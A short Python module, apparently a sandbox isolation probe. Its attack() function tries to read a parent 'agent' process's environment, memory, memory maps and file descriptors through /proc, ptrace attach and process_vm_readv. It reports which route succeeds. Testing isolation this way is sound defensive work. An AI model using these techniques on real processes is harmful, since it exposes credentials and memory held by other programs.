"""The agent's environment, memory and descriptors, also by way of one of its threads."""

import ctypes
import os


def attack() -> object:
    agent = os.getppid()
    threads = os.listdir(f"/proc/{agent}/task")
    for process in (str(agent), *(f"{agent}/task/{thread}" for thread in threads)):
        for name in ("environ", "mem", "maps", "fd/0"):
            try:
                with open(f"/proc/{process}/{name}", "rb") as f:
                    f.read(1)
                return f"{process}/{name}"
            except OSError:
                pass
    libc = ctypes.CDLL(None, use_errno=True)
    for thread in map(int, threads):
        if libc.ptrace(16, thread, 0, 0) == 0:  # PTRACE_ATTACH
            return f"ptrace of {thread}"
        local, remote = (ctypes.c_size_t * 2)(ctypes.addressof(ctypes.create_string_buffer(8)), 8), (ctypes.c_size_t * 2)(0x400000, 8)
        if libc.process_vm_readv(thread, local, 1, remote, 1, 0) > 0:
            return f"process_vm_readv of {thread}"
    for handle in os.listdir(f"/proc/{agent}/fd"):
        return os.readlink(f"/proc/{agent}/fd/{handle}")
    return None
